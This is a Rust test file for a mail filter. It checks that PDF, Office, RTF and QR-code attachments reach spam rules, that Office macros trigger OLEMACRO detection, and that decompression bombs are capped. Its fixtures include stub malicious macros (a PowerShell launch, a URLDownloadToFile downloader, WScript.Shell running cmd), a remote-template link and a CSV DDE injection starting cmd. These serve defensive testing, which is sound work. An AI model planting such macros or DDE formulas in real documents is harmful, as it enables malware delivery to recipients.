//! Attachments the rules read (SpamAssassin's ExtractText and OLEVBMacro ideas, no external
//! programs): the text and links of PDFs and Office documents reach the body and URI rules,
//! QR codes in images reach the URI list, Office macros hit the OLEMACRO rules and are a
//! banned type, and hostile documents stop at their limits. With Debian's SpamAssassin rule
//! files (.ci/run installs them).
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod common;

use amavisd::banned::{self, RuleSet, rules::Action, rules::RuleSpec};
use amavisd::decode::{self, Limits as DecodeLimits};
use amavisd::extract::{self, Limits, fixtures};
use amavisd::spam::engine::{LoadOptions, Rules};
use amavisd::spam::scan::Options;
use amavisd::spam::view::{MessageView, ViewSettings};
use amavisd_testing::sink::SinkMode;
use base64::Engine;
use common::*;
use std::path::Path;
use std::sync::OnceLock;

const RULES: &str = "/usr/share/spamassassin";
const SITE: &str = "/etc/spamassassin";

/// A message with a short text and `attachments` (file name, MIME type, bytes) in base64.
fn mail_with(attachments: &[(&str, &str, &[u8])]) -> Vec<u8> {
    let mut m = String::from(
        "From: Billing <billing@example.org>\r\nTo: u@example.com\r\nSubject: documents\r\n\
Date: Mon, 23 Nov 2026 10:00:00 +0000\r\nMessage-ID: <x1@example.org>\r\nMIME-Version: 1.0\r\n\
Content-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n--b1\r\nContent-Type: text/plain\r\n\r\n\
Please see the attached.\r\n",
    );
    for (name, ctype, bytes) in attachments {
        let b64 = base64::engine::general_purpose::STANDARD.encode(bytes);
        m.push_str(&format!(
            "--b1\r\nContent-Type: {ctype}; name=\"{name}\"\r\nContent-Disposition: attachment; \
filename=\"{name}\"\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        ));
        for line in b64.as_bytes().chunks(76) {
            m.push_str(std::str::from_utf8(line).unwrap());
            m.push_str("\r\n");
        }
    }
    m.push_str("--b1--\r\n");
    m.into_bytes()
}

/// `text` as a QR code in a grey PNG, each module `scale` pixels, with a white margin.
fn qr_grey(text: &str, scale: usize) -> (usize, Vec<u8>) {
    let code = qrcode::QrCode::new(text.as_bytes()).unwrap();
    let n = code.width();
    let side = (n + 8) * scale;
    let mut pixels = vec![255u8; side * side];
    for y in 0..n {
        for x in 0..n {
            if code[(x, y)] == qrcode::Color::Dark {
                for dy in 0..scale {
                    let row = ((y + 4) * scale + dy) * side;
                    pixels[row + (x + 4) * scale..row + (x + 5) * scale].fill(0);
                }
            }
        }
    }
    (side, pixels)
}

fn qr_png(text: &str, scale: usize) -> Vec<u8> {
    let (side, pixels) = qr_grey(text, scale);
    let mut out = Vec::new();
    let mut enc = png::Encoder::new(&mut out, side as u32, side as u32);
    enc.set_color(png::ColorType::Grayscale);
    let mut w = enc.write_header().unwrap();
    w.write_image_data(&pixels).unwrap();
    w.finish().unwrap();
    out
}

fn qr_gif(text: &str, scale: usize) -> Vec<u8> {
    let (side, pixels) = qr_grey(text, scale);
    let palette = [0u8, 0, 0, 255, 255, 255];
    let mut out = Vec::new();
    {
        let mut enc = gif::Encoder::new(&mut out, side as u16, side as u16, &palette).unwrap();
        let indexed: Vec<u8> = pixels.iter().map(|&p| u8::from(p > 127)).collect();
        let frame = gif::Frame::from_indexed_pixels(side as u16, side as u16, indexed, None);
        enc.write_frame(&frame).unwrap();
    }
    out
}

fn rules() -> &'static Rules {
    static RULESET: OnceLock<Rules> = OnceLock::new();
    RULESET.get_or_init(|| {
        assert!(
            Path::new(RULES).join("50_scores.cf").exists(),
            "{RULES} is missing: apt-get install spamassassin (.ci/run does)"
        );
        let opts = LoadOptions {
            extract: Some(Limits::default()),
            ..LoadOptions::default()
        };
        Rules::load_opts(Path::new(RULES), Some(Path::new(SITE)), opts).unwrap()
    })
}

fn hits(msg: &[u8]) -> Vec<String> {
    let out = rules().check(msg, "billing@example.org", Options::default());
    out.hits.into_iter().map(|h| h.name).collect()
}

fn view(msg: &[u8], extract: Option<Limits>) -> MessageView {
    let settings = ViewSettings {
        extract,
        ..ViewSettings::default()
    };
    MessageView::build(msg, "billing@example.org", &settings)
}

#[test]
fn document_text_and_links_reach_the_body_and_uri_rules() {
    let pdf = fixtures::pdf_with(
        b"BT /F1 12 Tf 72 712 Td (Your mailbox quota is exceeded) Tj 0 -14 Td (visit www.quota-fix.example now) Tj ET",
        "https://pdf-link.example/login",
    )
    .unwrap();
    let rels = br#"<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://docx-link.example/pay" TargetMode="External"/></Relationships>"#;
    let docx = fixtures::zip_of(&[
        ("[Content_Types].xml", b"<Types/>"),
        (
            "word/document.xml",
            b"<w:document><w:p><w:t>Wire the payment today</w:t></w:p></w:document>",
        ),
        ("word/_rels/document.xml.rels", rels),
    ])
    .unwrap();
    let msg = mail_with(&[
        ("scan.pdf", "application/pdf", &pdf),
        ("order.docx", "application/octet-stream", &docx),
    ]);
    let v = view(&msg, Some(Limits::default()));
    let body = v.body.join("\n");
    assert!(body.contains("Your mailbox quota is exceeded"), "{body}");
    assert!(body.contains("Wire the payment today"), "{body}");
    for link in [
        "https://pdf-link.example/login",
        "https://docx-link.example/pay",
        "http://www.quota-fix.example",
    ] {
        assert!(
            v.uris.iter().any(|u| u.starts_with(link)),
            "{link} not in {:?}",
            v.uris
        );
    }
    assert_eq!(v.attachments.read, vec!["pdf", "ooxml"]);
    // With no time left, attachments go unread and the view says so.
    let hurried = Limits {
        time_budget: std::time::Duration::ZERO,
        ..Limits::default()
    };
    let v = view(&msg, Some(hurried));
    assert!(v.attachments.out_of_time);
    assert!(!v.body.join("\n").contains("Wire the payment"));
    // Without extraction, as SpamAssassin without its tools: none of it.
    let plain = view(&msg, None);
    assert!(!plain.body.join("\n").contains("quota"));
    assert!(!plain.uris.iter().any(|u| u.contains("example/pay")));
}

/// Word 97 and RTF documents: their text reaches the body rules and their field links the
/// URI list, however the part is declared; an RTF with an embedded object hits OLEOBJ.
#[test]
fn word_97_and_rtf_text_reach_the_rules() {
    let doc = fixtures::word_document(&[
        ("Your invoice is overdue.\r", true),
        (
            "Pay at \u{13} HYPERLINK \"https://doc-link.example/pay\" \u{14}our portal\u{15} today.\r",
            false,
        ),
    ])
    .unwrap();
    let rtf =
        br#"{\rtf1\ansi{\fonttbl{\f0 Arial;}}\f0 Your parcel is \ldblquote held\rdblquote .\par
{\field{\*\fldinst{HYPERLINK "https://rtf-link.example/track"}}{\fldrslt{Track it}}}
{\object\objemb{\*\objclass Equation.3}{\*\objdata 0105000002000000}}}"#;
    let msg = mail_with(&[
        ("invoice.doc", "application/msword", &doc),
        ("parcel.txt", "application/octet-stream", rtf),
    ]);
    let v = view(&msg, Some(Limits::default()));
    let body = v.body.join("\n");
    for text in [
        "Your invoice is overdue.",
        "Pay at our portal today.",
        "Your parcel is “held”.",
        "Track it",
    ] {
        assert!(body.contains(text), "{text:?} not in {body}");
    }
    assert!(
        !body.contains("Arial") && !body.contains("HYPERLINK"),
        "{body}"
    );
    for link in [
        "https://doc-link.example/pay",
        "https://rtf-link.example/track",
    ] {
        assert!(
            v.uris.iter().any(|u| u == link),
            "{link} not in {:?}",
            v.uris
        );
    }
    assert_eq!(v.attachments.read, vec!["doc", "rtf"]);
    assert!(v.attachments.macros.object);
    let hits = hits(&msg);
    assert!(hits.iter().any(|h| h == "OLEOBJ"), "{hits:?}");
}

/// A document inside a forwarded message (message/rfc822), two levels down, is read too.
#[test]
fn documents_in_attached_messages_are_read() {
    let rtf = br"{\rtf1 Claim your refund at https://nested-link.example/refund now}";
    let inner = mail_with(&[("refund.rtf", "application/rtf", rtf)]);
    let wrap = |m: &[u8]| {
        let mut out = b"From: a@example.org\r\nTo: u@example.com\r\nSubject: Fwd\r\nMIME-Version: 1.0\r\n\
Content-Type: multipart/mixed; boundary=\"w\"\r\n\r\n--w\r\nContent-Type: text/plain\r\n\r\nsee below\r\n\
--w\r\nContent-Type: message/rfc822\r\n\r\n"
            .to_vec();
        out.extend_from_slice(m);
        out.extend_from_slice(b"\r\n--w--\r\n");
        out
    };
    let msg = wrap(&wrap(&inner));
    let v = view(&msg, Some(Limits::default()));
    assert!(
        v.body.join("\n").contains("Claim your refund"),
        "{:?}",
        v.body
    );
    assert!(
        v.uris
            .iter()
            .any(|u| u.starts_with("https://nested-link.example/refund")),
        "{:?}",
        v.uris
    );
    assert_eq!(v.attachments.read, vec!["rtf"]);
}

#[test]
fn qr_code_links_reach_the_uri_list() {
    let msg = mail_with(&[
        (
            "code.png",
            "image/png",
            &qr_png("https://quish-png.example/a?b=1", 4),
        ),
        (
            "big.gif",
            "image/gif",
            &qr_gif("https://quish-gif.example/", 6),
        ),
        (
            "photo.png",
            "image/png",
            &qr_png("https://large.example/", 40),
        ),
    ]);
    let v = view(&msg, Some(Limits::default()));
    for link in [
        "https://quish-png.example/a?b=1",
        "https://quish-gif.example/",
        "https://large.example/",
    ] {
        assert!(
            v.uris.iter().any(|u| u == link),
            "{link} not in {:?}",
            v.uris
        );
    }
    assert_eq!(v.attachments.read.iter().filter(|k| **k == "qr").count(), 3);
    // The image limits hold: one image per message, or too few pixels, reads less.
    let one = Limits {
        max_images: 1,
        ..Limits::default()
    };
    assert_eq!(view(&msg, Some(one)).attachments.read, vec!["qr"]);
    let tiny = Limits {
        max_pixels: 10_000,
        ..Limits::default()
    };
    assert!(view(&msg, Some(tiny)).attachments.read.is_empty());
}

#[test]
fn office_macros_hit_the_olemacro_rules() {
    let bad = fixtures::docm(
        "Enable content",
        "Sub AutoOpen()\nShell \"powershell -e JAB\"\nEnd Sub",
    )
    .unwrap();
    let h = hits(&mail_with(&[(
        "invoice.docm",
        "application/octet-stream",
        &bad,
    )]));
    assert!(
        h.contains(&"OLEMACRO".into()) && h.contains(&"OLEMACRO_MALICE".into()),
        "{h:?}"
    );
    assert!(!h.contains(&"OLEMACRO_RENAME".into()), "{h:?}");

    let harmless = fixtures::docm("Report", "Sub FormatTable()\nEnd Sub").unwrap();
    let h = hits(&mail_with(&[(
        "report.docm",
        "application/octet-stream",
        &harmless,
    )]));
    assert!(
        h.contains(&"OLEMACRO".into()) && !h.contains(&"OLEMACRO_MALICE".into()),
        "{h:?}"
    );

    // A Word 97 file with a downloader, renamed to look like a PDF.
    let doc =
        fixtures::word_with_macro("URLDownloadToFile 0, \"http://dl.example/x.exe\", p, 0, 0")
            .unwrap();
    let h = hits(&mail_with(&[("scan.pdf", "application/pdf", &doc)]));
    for rule in [
        "OLEMACRO",
        "OLEMACRO_MALICE",
        "OLEMACRO_RENAME",
        "OLEMACRO_DOWNLOAD_EXE",
    ] {
        assert!(h.contains(&rule.into()), "{rule} not in {h:?}");
    }

    // A document without macros that fetches a template when opened.
    let rels = br#"<Relationships><Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://tpl.example/t.dotm" TargetMode="External"/></Relationships>"#;
    let remote = fixtures::zip_of(&[
        ("[Content_Types].xml", b"<Types/>"),
        ("word/_rels/settings.xml.rels", rels),
    ])
    .unwrap();
    let h = hits(&mail_with(&[(
        "letter.docx",
        "application/octet-stream",
        &remote,
    )]));
    assert!(
        h.contains(&"OLEMACRO_URI_TARGET".into()) && !h.contains(&"OLEMACRO".into()),
        "{h:?}"
    );

    // Inside a zip: the macro document is found; an encrypted member is reported.
    let zipped = fixtures::zip_of(&[("invoice.docm", &bad), ("secret.doc", b"x")]).unwrap();
    let h = hits(&mail_with(&[(
        "files.zip",
        "application/zip",
        &encrypt_member(zipped, "secret.doc"),
    )]));
    for rule in ["OLEMACRO", "OLEMACRO_MALICE", "OLEMACRO_ZIP_PW"] {
        assert!(h.contains(&rule.into()), "{rule} not in {h:?}");
    }

    // A CSV that starts cmd through DDE.
    let csv = b"name,total\r\n=cmd|' /C calc'!A0,1\r\n";
    let h = hits(&mail_with(&[("prices.csv", "text/csv", csv)]));
    assert!(h.contains(&"OLEMACRO_CSV".into()), "{h:?}");

    // Plain mail hits none of them.
    let h = hits(&mail_with(&[]));
    assert!(!h.iter().any(|r| r.starts_with("OLE")), "{h:?}");
}

/// Sets the "encrypted" flag of member `name` in a zip's local and central headers.
fn encrypt_member(mut zip: Vec<u8>, name: &str) -> Vec<u8> {
    for (sig, flag_at, name_at) in [(b"PK\x03\x04", 6, 30), (b"PK\x01\x02", 8, 46)] {
        let mut at = 0;
        while let Some(p) = zip[at..].windows(4).position(|w| w == sig) {
            let h = at + p;
            if zip[h + name_at..].starts_with(name.as_bytes()) {
                zip[h + flag_at] |= 1;
            }
            at = h + 4;
        }
    }
    zip
}

#[test]
fn macros_are_a_banned_type() {
    let bad = fixtures::docm("x", "Sub AutoOpen()\nEnd Sub").unwrap();
    let doc = fixtures::word_with_macro("Sub Document_Open()\nEnd Sub").unwrap();
    let clean = fixtures::zip_of(&[
        ("[Content_Types].xml", b"<Types/>"),
        ("word/document.xml", b"<w:t>hi</w:t>"),
    ])
    .unwrap();
    let msg = mail_with(&[
        ("a.docm", "application/octet-stream", &bad),
        ("b.txt", "text/plain", &doc),
        ("c.docx", "application/octet-stream", &clean),
    ]);
    let dir = tempfile::tempdir().unwrap();
    let decoded = decode::decode_message(&msg, &DecodeLimits::default(), dir.path());
    let typed = |name: &str| {
        decoded
            .parts
            .iter()
            .find(|p| p.name.as_deref() == Some(name))
            .map(|p| p.types.clone())
            .unwrap()
    };
    assert_eq!(typed("a.docm")[0], "macro");
    assert_eq!(typed("b.txt"), vec!["macro", "doc"]);
    assert!(!typed("c.docx").contains(&"macro".to_string()));
    // Parts spooled to files are typed the same way, read in place.
    let spooled = DecodeLimits {
        memory_part_limit: 0,
        ..DecodeLimits::default()
    };
    let on_disk = decode::decode_message(&msg, &spooled, dir.path());
    let part = |name: &str| {
        on_disk
            .parts
            .iter()
            .find(|p| p.name.as_deref() == Some(name))
            .unwrap()
    };
    assert!(part("b.txt").data.as_slice().is_none());
    assert_eq!(part("a.docm").types[0], "macro");
    assert_eq!(part("b.txt").types, vec!["macro", "doc"]);
    let no_macros = RuleSet::compile(
        "NO_MACROS",
        &[RuleSpec {
            regex: Some(r"^\.macro$".into()),
            glob: None,
            action: Action::Ban,
            why: "macros".into(),
        }],
    )
    .unwrap();
    // Each banned leaf, named by the attachment it is in (itself or an ancestor).
    let mut banned_in: Vec<String> = Vec::new();
    for hit in banned::check(&decoded, &no_macros) {
        let i = decoded.parts.iter().position(|p| p.id == hit.part).unwrap();
        let names = std::iter::once(&decoded.parts[i]).chain(decoded.ancestors(i));
        banned_in.extend(
            names
                .filter_map(|p| p.name.clone())
                .filter(|n| n.contains('.')),
        );
    }
    assert!(banned_in.iter().any(|n| n == "a.docm"), "{banned_in:?}");
    assert!(banned_in.iter().any(|n| n == "b.txt"), "{banned_in:?}");
    assert!(!banned_in.iter().any(|n| n == "c.docx"), "{banned_in:?}");
}

#[test]
fn hostile_documents_stop_at_their_limits() {
    // 8 MiB of zeros in one content stream, against a 1 MiB budget (the default is 32 MiB;
    // a smaller pair keeps the debug-build test fast): inflating stops at the budget.
    let mut content = b"BT (".to_vec();
    content.resize(8 << 20, b'0');
    content.extend_from_slice(b") Tj ET");
    let bomb = fixtures::pdf_with(&content, "https://x.example/").unwrap();
    assert!(bomb.len() < 1 << 20, "{}", bomb.len());
    let budget = Limits {
        max_inflated: 1 << 20,
        ..Limits::default()
    };
    let got = extract::extract(&bomb, &budget).unwrap();
    assert!(got.truncated);
    assert!(got.text.len() <= budget.max_text);
    // Too large to look at: not read at all.
    let small = Limits {
        max_input: 1000,
        ..Limits::default()
    };
    assert!(extract::extract(&bomb, &small).is_none());
    // Damaged copies of every kind, cut and with bytes flipped, give an answer and no panic.
    let samples = [
        fixtures::pdf_with(b"BT (a) Tj ET", "https://x.example/").unwrap(),
        fixtures::docm("text", "Sub AutoOpen()\nEnd Sub").unwrap(),
        fixtures::word_with_macro("Sub AutoOpen()\nEnd Sub").unwrap(),
        qr_png("https://x.example/", 3),
    ];
    for s in &samples {
        for i in (0..s.len()).step_by(7) {
            let mut d = s.clone();
            d[i] ^= 0x5a;
            let _ = extract::extract(&d, &Limits::default());
            let _ = extract::qr::decode(&d, &Limits::default());
            let _ = extract::extract(&s[..i], &Limits::default());
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_filter_scores_a_macro_document() {
    let rig = Rig::start_with(SinkMode::Accept, false, |c| {
        c.spam.enabled = true;
        c.spam.early_stop = false;
        c.spam.rules_dir = RULES.into();
        c.spam.site_dir = SITE.into();
        c.policy.spam_tag_level = Some(-999.0);
    })
    .await;
    let bad = fixtures::docm(
        "Enable editing",
        "Sub Document_Open()\nCreateObject(\"WScript.Shell\").Run \"cmd\"\nEnd Sub",
    )
    .unwrap();
    let msg = mail_with(&[("invoice.docm", "application/octet-stream", &bad)]);
    let mut cl = rig.client().await;
    let r = cl
        .send_mail(false, "billing@example.org", &["u@example.com"], &msg)
        .await;
    assert!(r.starts_with("250 2.0.0"), "{r}");
    let got = rig.sink.received();
    let text = String::from_utf8_lossy(&got[0].data).into_owned();
    assert!(text.contains("OLEMACRO_MALICE"), "{text}");
}
